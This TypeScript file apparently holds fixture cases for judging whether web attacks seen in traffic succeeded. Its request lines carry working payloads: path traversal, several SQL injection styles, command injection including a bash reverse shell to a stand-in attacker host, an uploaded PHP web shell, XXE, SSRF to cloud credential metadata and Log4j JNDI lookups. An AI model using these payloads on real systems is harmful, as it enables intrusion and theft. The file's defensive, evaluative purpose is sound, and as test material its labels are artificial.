/** Attacks on web servers, laid by hand: half of the pages that look like a success are none. */
import { web, type MadeCase } from './define.ts'

const PASSWD =
  'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n'
const page = (inner: string): string => `<!doctype html><html><head><title>Shop</title></head><body>${inner}</body></html>`
const WIN_INI = '; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n'
const LISTING =
  '<html><head><title>Index of /backup</title></head><body><h1>Index of /backup</h1><pre><a href="?C=N;O=D">Name</a> <a href="?C=M;O=A">Last modified</a>\n<a href="/">Parent Directory</a>\n<a href="db-2026.sql">db-2026.sql</a> 2026-10-01 10:00 12M\n</pre></body></html>'

export const WEB: readonly MadeCase[] = [
  // Files.
  web('traversal-passwd', 'succeeded', 'The answer is the list of accounts that was asked for.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/view.php?f=../../../../etc/passwd', answer: PASSWD, type: 'text/plain' })),
  web('traversal-passwd-gzip', 'succeeded', 'The compressed answer holds the list of accounts.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/view.php?f=..%2f..%2f..%2fetc%2fpasswd', answer: page(`<pre>${PASSWD}</pre>`), encoding: 'gzip' })),
  web('traversal-passwd-chunked', 'succeeded', 'The chunks together hold the list of accounts.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/view.php?f=....//....//....//etc/passwd', answer: page(`${'<p>menu</p>'.repeat(40)}<pre>${PASSWD}</pre>`), encoding: 'chunked' })),
  web('traversal-win-ini', 'succeeded', 'The answer is the win.ini of Windows.', 'Path traversal, windows/win.ini', (s) =>
    s.http({ url: '/dl?file=..\\..\\..\\windows\\win.ini', answer: WIN_INI, type: 'application/octet-stream' })),
  web('traversal-after-misses', 'succeeded', 'Three tries are not found; the fourth gives the file.', 'Path traversal to /etc/passwd', (s) => {
    for (const up of ['..', '../..', '../../..']) s.http({ url: `/doc?p=${up}/etc/passwd`, status: 404, answer: page('Not found') }).wait(1)
    s.http({ url: '/doc?p=../../../../../etc/passwd', answer: PASSWD, type: 'text/plain' })
  }),
  web('traversal-404', 'failed', 'The server has nothing at that path.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/../../../../etc/passwd', status: 404, answer: page('<h1>404 Not Found</h1>') })),
  web('traversal-400', 'failed', 'The server refuses the request as malformed.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', status: 400, answer: page('<h1>400 Bad Request</h1>') })),
  web('traversal-echo', 'unknown', 'The page repeats the path and shows no file; whether the parameter is used at all is not told.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/menu.php?c=../../../../etc/passwd', answer: page('<p>No menu named ../../../../etc/passwd</p>') })),
  web('traversal-front-page', 'unknown', 'The site answers everything with its front page; no file is shown.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/?page=../../../../etc/passwd', answer: page('<h1>Welcome</h1><p>Fresh bread every day.</p>') })),
  web('traversal-unanswered', 'unknown', 'Nobody saw an answer.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/v?f=../../../../etc/passwd', unanswered: true })),
  web('traversal-manual', 'unknown', 'A manual page has such a line; nothing tells that the file was read, for it was not asked by name.', 'Path traversal attempt', (s) =>
    s.http({ url: '/help?topic=../accounts', answer: page('<p>Lines look like root:x:0:0:root:/root:/bin/bash</p>') })),
  web('env-file', 'succeeded', 'The answer is the settings file with its passwords.', 'Exposed .env file requested', (s) =>
    s.http({ url: '/.env', answer: 'APP_ENV=production\nAPP_KEY=base64:YWJjZGVmZ2hpamtsbW5vcA==\nDB_HOST=10.1.1.5\nDB_PASSWORD=s3cr3t-of-shop\n', type: 'text/plain' })),
  web('env-file-404', 'failed', 'There is no such file.', 'Exposed .env file requested', (s) =>
    s.http({ url: '/.env', status: 404, answer: page('Not found') })),
  web('env-file-page', 'unknown', 'A page of the site comes in place of the file.', 'Exposed .env file requested', (s) =>
    s.http({ url: '/.env', answer: page('<h1>Welcome</h1>') })),
  web('git-config', 'succeeded', 'The answer is the configuration of the repository.', 'Exposed .git directory requested', (s) =>
    s.http({ url: '/.git/config', answer: '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n[remote "origin"]\n\turl = git@git.example:shop.git\n', type: 'text/plain' })),
  web('git-config-403', 'failed', 'The server refuses to give it.', 'Exposed .git directory requested', (s) =>
    s.http({ url: '/.git/config', status: 403, answer: page('Forbidden') })),
  web('directory-listing', 'succeeded', 'The server lists the files of the folder.', 'Directory listing requested', (s) =>
    s.http({ url: '/backup/', answer: LISTING })),
  web('directory-listing-403', 'failed', 'The server refuses to list it.', 'Directory listing requested', (s) =>
    s.http({ url: '/backup/', status: 403, answer: page('Forbidden') })),
  web('phpinfo', 'succeeded', 'The answer is the page of phpinfo() with its settings.', 'phpinfo page requested', (s) =>
    s.http({ url: '/phpinfo.php', answer: '<!DOCTYPE html><html><head><title>PHP 8.2.7 - phpinfo()</title><meta name="ROBOTS" content="NOINDEX,NOFOLLOW,NOARCHIVE" /></head><body><h1 class="p">PHP Version 8.2.7</h1><table><tr><td class="e">System </td><td class="v">Linux web 6.1.0 x86_64 </td></tr><tr><td class="e">Loaded Configuration File </td><td class="v">/etc/php/8.2/apache2/php.ini </td></tr><tr><td class="e">DOCUMENT_ROOT</td><td class="v">/var/www/html</td></tr></table></body></html>' })),
  // Databases.
  web('union-hashes', 'succeeded', 'Names and password hashes that the query selects stand in the page.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-', answer: page('<td>Bread admin:$2y$10$Q9vRk2hT0pXw1yZ3aB5cDeFgHiJkLmNoPqRsTuVwXyZ0123456789</td><td>kim:$2y$10$A1b2C3d4E5f6G7h8I9j0KaLbMcNdOePfQgRhSiTjUkVlWmXnYoZpa</td>') })),
  web('union-marker', 'succeeded', 'The text that was sent as hexadecimal comes back as text: the database made it.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=-1+UNION+SELECT+1,CONCAT(0x71786b7871,0x4d61726b6564,0x7178767171),3--', answer: page('<td>qxkxqMarkedqxvqq</td>') })),
  web('union-version', 'succeeded', 'The version of the database, which was asked for, stands in the page.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=-1+UNION+SELECT+1,version(),3--', answer: page('<td>8.0.36-0ubuntu0.22.04.1</td>') })),
  web('union-echo', 'unknown', 'The page repeats the query and shows no row.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/search?q=1%27+UNION+SELECT+login,password+FROM+users--', answer: page("<p>Nothing found for 1' UNION SELECT login,password FROM users--</p>") })),
  web('union-empty', 'unknown', 'A page without anything of a database; it may be blind.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2,3', answer: page('<p>No dishes.</p>') })),
  web('union-footer-mail', 'unknown', 'The address for mail at the foot of the page is always there.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+email,2+FROM+users', answer: page('<p>No dishes.</p><footer>shop@example.com</footer>') })),
  web('union-404', 'failed', 'There is no such page on the server.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/old/item.asp?id=1+UNION+SELECT+1,2', status: 404, answer: page('Not found') })),
  web('union-403', 'failed', 'The server refuses both requests.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2', status: 403, answer: page('Forbidden') }).wait(2)
     .http({ url: '/item.php?id=1+UNION+SELECT+1,2,3', status: 403, answer: page('Forbidden') })),
  web('union-login-wall', 'failed', 'The client is sent to the login before anything is given.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/admin/item?id=1+UNION+SELECT+1,2', status: 302, answerHeaders: { Location: '/login?next=%2Fadmin%2Fitem' }, answer: '' })),
  web('error-value', 'succeeded', 'The error of XPATH tells the version, which nobody sent: the database was read.', 'SQL injection, error based', (s) =>
    s.http({ url: '/item.php?id=1+AND+EXTRACTVALUE(1,CONCAT(0x7e,version()))', answer: page("<p>XPATH syntax error: '~8.0.36-0ubuntu0.22.04.1'</p>") })),
  web('error-mssql', 'succeeded', 'SQL Server tells the password that it could not make a number of.', 'SQL injection, error based', (s) =>
    s.http({ url: "/item.aspx?id=1+AND+1=CONVERT(int,(SELECT+TOP+1+password+FROM+users))", status: 500, answer: page("Conversion failed when converting the nvarchar value 'Winter-2026!' to data type int.") })),
  web('error-down', 'unknown', 'The database cannot be reached: nothing ran, but only now.', 'SQL injection, error based', (s) =>
    s.http({ url: '/item.php?id=1+AND+EXTRACTVALUE(1,version())', status: 503, answer: page("SQLSTATE[HY000] [2002] Connection refused") })),
  web('sleep-answered', 'succeeded', 'No wait, five and five seconds, as the queries say.', 'SQL injection, time-based (SLEEP)', (s) => {
    for (const n of [0, 5, 5]) s.http({ url: `/item.php?id=1%27%20AND%20SLEEP(${n})--%20-`, takes: n * 1000 + 20, answer: page('<p>No dishes.</p>') }).wait(1)
  }),
  web('sleep-ignored', 'unknown', 'All are answered at once: this query did not wait; another may work.', 'SQL injection, time-based (SLEEP)', (s) => {
    for (const n of [0, 5, 5]) s.http({ url: `/item.php?id=1%27%20AND%20SLEEP(${n})--%20-`, takes: 15, answer: page('<p>No dishes.</p>') }).wait(1)
  }),
  web('sleep-400', 'failed', 'The server refuses each of them.', 'SQL injection, time-based (SLEEP)', (s) => {
    for (const n of [0, 5]) s.http({ url: `/item.php?id=1%27%20AND%20SLEEP(${n})--%20-`, status: 400, answer: page('Bad Request') }).wait(1)
  }),
  // Commands.
  web('command-id', 'succeeded', 'The answer holds what id prints.', 'OS command injection attempt', (s) =>
    s.http({ url: '/ping.php?host=127.0.0.1%3Bid', answer: page('<pre>PING 127.0.0.1\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>') })),
  web('command-ipconfig', 'succeeded', 'The answer holds what ipconfig prints.', 'OS command injection attempt', (s) =>
    s.http({ url: '/diag.asp', body: 'target=1.1.1.1%26ipconfig', answer: page('<pre>\r\nWindows IP Configuration\r\n\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n   Connection-specific DNS Suffix  . : corp.example\r\n   IPv4 Address. . . . . . . . . . . : 10.1.2.3\r\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n   Default Gateway . . . . . . . . . : 10.1.2.1\r\n</pre>') })),
  web('command-passwd', 'succeeded', 'The command prints the list of accounts.', 'OS command injection attempt', (s) =>
    s.http({ url: '/ping.php?host=%7Ccat%20/etc/passwd', answer: page(`<pre>${PASSWD}</pre>`) })),
  web('command-echo', 'unknown', 'The page repeats the command and prints nothing of it.', 'OS command injection attempt', (s) =>
    s.http({ url: '/ping.php?host=127.0.0.1%3Bid', answer: page('<p>Invalid host: 127.0.0.1;id</p>') })),
  web('command-404', 'failed', 'There is no such script.', 'OS command injection attempt', (s) =>
    s.http({ url: '/cgi-bin/ping.cgi?host=%3Bid', status: 404, answer: page('Not found') })),
  web('command-500', 'unknown', 'The server failed while it worked: what was sent may have run.', 'OS command injection attempt', (s) =>
    s.http({ url: '/ping.php?host=%3Bid', status: 500, answer: page('Internal Server Error') })),
  web('command-calls-back', 'succeeded', 'The page shows nothing, but the server opens a shell to the attacker a second later and it is answered.', 'OS command injection attempt', (s) => {
    s.http({ url: `/ping.php?host=%3Bbash+-i+>%26+/dev/tcp/${s.attacker}/4444+0>%261`, answer: page('<p>ok</p>') }).wait(1)
    s.talk([[0, 'bash: no job control in this shell\nwww-data@srv:/var/www$ '], [1, 'id\n'], [0, 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n']], { client: s.target, server: s.attacker, serverPort: 4444 })
  }),
  web('command-host-ran', 'succeeded', 'The host records that the web server ran the command of the request.', 'OS command injection attempt', (s) => {
    s.http({ url: '/ping.php?host=%3Bwhoami', answer: page('<p>ok</p>') })
    s.win('Microsoft-Windows-Sysmon/Operational', 1, { UtcTime: '2026-11-18 08:00:00.000', ProcessId: '4100', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c ping -n 1 ;whoami', ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', ParentCommandLine: 'w3wp.exe -ap "Shop"', User: 'IIS APPPOOL\\Shop' })
    s.win('Microsoft-Windows-Sysmon/Operational', 1, { UtcTime: '2026-11-18 08:00:00.100', ProcessId: '4104', Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe /c ping -n 1 ;whoami', User: 'IIS APPPOOL\\Shop' })
  }),
  // Templates, scripts, XML, requests of the server.
  web('template-product', 'succeeded', 'The product of two large numbers stands in the page; only an engine computes it.', 'Template injection, remote code execution attempt', (s) =>
    s.http({ url: '/hello?name=%7B%7B91823*7717%7D%7D', answer: page('<p>Hello 708598091!</p>') })),
  web('template-literal', 'failed', 'The expression comes back as it was sent: it was text.', 'Template injection, remote code execution attempt', (s) =>
    s.http({ url: '/hello?name=%7B%7B91823*7717%7D%7D', answer: page('<p>Hello {{91823*7717}}!</p>') })),
  web('xss-reflected', 'succeeded', 'The script comes back unescaped between paragraphs.', 'Cross-site scripting attempt', (s) =>
    s.http({ url: '/search?q=%3Cscript%3Ealert(4711)%3C/script%3E', answer: page('<p>Nothing found for <script>alert(4711)</script></p>') })),
  web('xss-escaped', 'failed', 'The script comes back escaped: it is text.', 'Cross-site scripting attempt', (s) =>
    s.http({ url: '/search?q=%3Cscript%3Ealert(4711)%3C/script%3E', answer: page('<p>Nothing found for &lt;script&gt;alert(4711)&lt;/script&gt;</p>') })),
  web('xss-json', 'failed', 'The script comes back inside JSON, which no browser runs.', 'Cross-site scripting attempt', (s) =>
    s.http({ url: '/api/search?q=%3Cscript%3Ealert(4711)%3C/script%3E', type: 'application/json', answerHeaders: { 'X-Content-Type-Options': 'nosniff' }, answer: '{"query":"<script>alert(4711)</script>","hits":[]}' })),
  web('xss-not-shown', 'unknown', 'The page does not show what was sent; it may be stored.', 'Cross-site scripting attempt', (s) =>
    s.http({ url: '/comment', body: 'text=%3Cscript%3Ealert(4711)%3C/script%3E', answer: page('<p>Thank you.</p>') })),
  web('xxe-file', 'succeeded', 'The file stands where the entity was.', 'XML external entity (XXE) attempt', (s) =>
    s.http({ url: '/api/order', headers: { 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o><n>&x;</n></o>', type: 'application/xml', answer: `<error>No article named ${PASSWD}</error>` })),
  web('xxe-forbidden', 'failed', 'The parser says that it allows no document types.', 'XML external entity (XXE) attempt', (s) =>
    s.http({ url: '/api/order', headers: { 'Content-Type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o><n>&x;</n></o>', status: 400, type: 'application/xml', answer: '<error>DOCTYPE is disallowed when the feature "http://apache.org/xml/features/disallow-doctype-decl" set to true.</error>' })),
  web('ssrf-keys', 'succeeded', 'The answer holds keys of the cloud that only the server can fetch.', 'Server-side request (SSRF) to metadata service', (s) =>
    s.http({ url: '/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop', type: 'application/json', answer: '{"Code":"Success","LastUpdated":"2026-11-18T07:00:00Z","Type":"AWS-HMAC","AccessKeyId":"ASIAEXAMPLEEXAMPLE12","SecretAccessKey":"abcdefghijklmnopqrstuvwxyz0123456789ABCD","Token":"IQoJb3JpZ2luX2VjE","Expiration":"2026-11-18T13:00:00Z"}' })),
  web('ssrf-refused', 'failed', 'The server says that the address is not allowed, before anything was tried.', 'Server-side request (SSRF) to metadata service', (s) =>
    s.http({ url: '/fetch?url=http://169.254.169.254/latest/meta-data/', status: 403, answer: page('<p>Forbidden</p>') })),
  // Shells and uploads.
  web('shell-replies', 'succeeded', 'The script answers with what the command prints.', 'Web shell command', (s) =>
    s.http({ url: '/uploads/x.php?cmd=id', answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' }), 'T1505.003'),
  web('shell-not-there', 'failed', 'No such script is there, in three places.', 'Web shell command', (s) => {
    for (const path of ['/uploads/x.php', '/images/c99.php', '/tmp/r57.php']) s.http({ url: `${path}?cmd=id`, status: 404, answer: page('<h1>404 Not Found</h1>') }).wait(1)
  }, 'T1505.003'),
  web('shell-front-page', 'unknown', 'The site answers everything with its front page; whether a script hides behind it is not told.', 'Web shell command', (s) =>
    s.http({ url: '/uploads/x.php?cmd=id', answer: page('<h1>Welcome</h1><p>Fresh bread every day. Order before ten and it is warm.</p><a href="/menu">Menu</a>') }), 'T1505.003'),
  web('upload-then-runs', 'succeeded', 'The uploaded script answers at its place.', 'PHP file uploaded through a web form', (s) => {
    const body = '--b\r\nContent-Disposition: form-data; name="f"; filename="inv_77.php"\r\nContent-Type: application/x-php\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--\r\n'
    s.http({ url: '/upload', headers: { 'Content-Type': 'multipart/form-data; boundary=b' }, body, answer: page('<p>Thank you.</p>') }).wait(3)
    s.http({ url: '/uploads/inv_77.php?c=id', own: false, answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' })
  }, 'T1505.003'),
  web('upload-refused', 'failed', 'The form refuses files of that kind.', 'PHP file uploaded through a web form', (s) => {
    const body = '--b\r\nContent-Disposition: form-data; name="f"; filename="inv_78.php"\r\nContent-Type: application/x-php\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--\r\n'
    s.http({ url: '/upload', headers: { 'Content-Type': 'multipart/form-data; boundary=b' }, body, status: 415, answer: page('<p>Only pictures.</p>') })
  }, 'T1505.003'),
  web('upload-put-created', 'succeeded', 'The server says that it created the script.', 'PHP file uploaded by PUT', (s) =>
    s.http({ method: 'PUT', url: '/dav/s.php', body: '<?php system($_GET["c"]); ?>', status: 201, answerHeaders: { Location: '/dav/s.php' }, answer: '' }).wait(2)
     .http({ url: '/dav/s.php?c=id', own: false, answer: 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n' }), 'T1505.003'),
  web('upload-put-405', 'failed', 'The server allows no PUT.', 'PHP file uploaded by PUT', (s) =>
    s.http({ method: 'PUT', url: '/dav/s.php', body: '<?php system($_GET["c"]); ?>', status: 405, answer: page('Method Not Allowed') }), 'T1505.003'),
  web('source-returned', 'succeeded', 'The source of the script comes back in Base64, as the filter of the request wants it.', 'PHP filter, local file inclusion', (s) =>
    s.http({ url: '/index.php?p=php://filter/convert.base64-encode/resource=config.php', answer: page(Buffer.from('<?php\n$db_user = "shop";\n$db_password = "bread-and-butter";\n$db = new mysqli("10.1.1.5", $db_user, $db_password, "shop");\n?>\n').toString('base64')) })),
  // Lookups.
  web('jndi-fetches', 'succeeded', 'The server opens LDAP to the address of the request and then fetches a class from it.', 'Log4j JNDI lookup in User-Agent header', (s) => {
    s.http({ url: '/', agent: `\${jndi:ldap://${s.attacker}:1389/a}`, answer: page('<h1>Welcome</h1>') }).wait(1)
    s.talk([[0, Uint8Array.of(0x30, 0x0c, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0)], [1, Uint8Array.of(0x30, 0x0c, 2, 1, 1, 0x61, 7, 0x0a, 1, 0, 4, 0, 4, 0)]], { client: s.target, server: s.attacker, serverPort: 1389 })
    s.http({ url: '/a.class', agent: 'Java/1.8.0_181', host: s.attacker, own: false, type: 'application/java-vm', answer: Buffer.from('cafebabe0000003400', 'hex'), ends: { client: s.target, server: s.attacker, serverPort: 8888 } })
  }),
  web('jndi-no-call', 'unknown', 'The front page comes, and nobody saw a call; it may come later or where no sensor is.', 'Log4j JNDI lookup in User-Agent header', (s) =>
    s.http({ url: '/', agent: `\${jndi:ldap://${s.attacker}:1389/a}`, answer: page('<h1>Welcome</h1>') })),
  web('jndi-blocked', 'blocked', 'The sensor in line drops the flow and the server never answers.', 'Log4j JNDI lookup in User-Agent header', (s) =>
    s.http({ url: '/', agent: `\${jndi:ldap://${s.attacker}:1389/a}`, unanswered: true, action: 'blocked', noPackets: true })),
  // Devices before the server.
  web('waf-page', 'blocked', 'The page of a web application firewall comes in place of the site.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+login,password+FROM+users', status: 403, answerHeaders: { Server: 'cloudflare', 'CF-RAY': '8c0d1e2f3a4b5c6d-ICN' }, answer: '<!DOCTYPE html><html><head><title>Attention Required! | Cloudflare</title></head><body><h1>Sorry, you have been blocked</h1><p>Cloudflare Ray ID: 8c0d1e2f3a4b5c6d</p></body></html>' })),
  web('waf-one-through', 'succeeded', 'The first is stopped by the firewall; the second brings rows.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+login,password+FROM+users', status: 403, answer: '<html><head><title>Attention Required! | Cloudflare</title></head><body><h1>Sorry, you have been blocked</h1></body></html>' }).wait(2)
     .http({ url: '/item.php?id=1/**/UnIoN/**/SeLeCt/**/login,password/**/FROM/**/users', answer: page('<td>admin:$2y$10$Q9vRk2hT0pXw1yZ3aB5cDeFgHiJkLmNoPqRsTuVwXyZ0123456789</td>') })),
  web('inline-drop', 'blocked', 'The sensor in line drops the request; nothing comes back.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2', unanswered: true, action: 'blocked', noPackets: true })),
  web('reset-before-answer', 'unknown', 'The flow is reset without an answer; by whom and before what is not told.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2', reset: true })),
  web('drop-contradicted', 'unknown', 'The sensor says it dropped the request, yet an answer of the server was seen.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2', action: 'blocked', answer: page('<p>No dishes.</p>') })),
  web('sensor-only-200', 'unknown', 'Only the status is known, and that a page came.', 'SQL injection, UNION SELECT in request', (s) =>
    s.http({ url: '/item.php?id=1+UNION+SELECT+1,2', noPackets: true, answer: page('<p>rows?</p>') })),
  web('sensor-only-404', 'failed', 'The sensor says 404; the bytes are not needed.', 'Path traversal to /etc/passwd', (s) =>
    s.http({ url: '/x?f=../../../../etc/passwd', noPackets: true, status: 404, answer: 'no' })),
] // prettier-ignore
